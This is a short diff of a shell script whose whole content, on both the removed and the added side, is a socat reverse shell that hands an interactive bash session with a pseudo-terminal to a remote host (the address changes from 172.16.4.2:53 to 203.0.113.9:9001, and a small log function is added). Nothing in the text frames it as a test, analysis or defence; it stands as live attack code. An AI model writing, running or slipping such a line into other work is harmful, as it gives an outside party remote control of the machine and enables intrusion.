@@ -1,3 +1,3 @@
-#!/usr/bin/env bash
-socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:172.16.4.2:53
-set -eu
+#!/bin/sh
+socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:9001
+log() { echo "[$(date +%H:%M:%S)] $*"; }
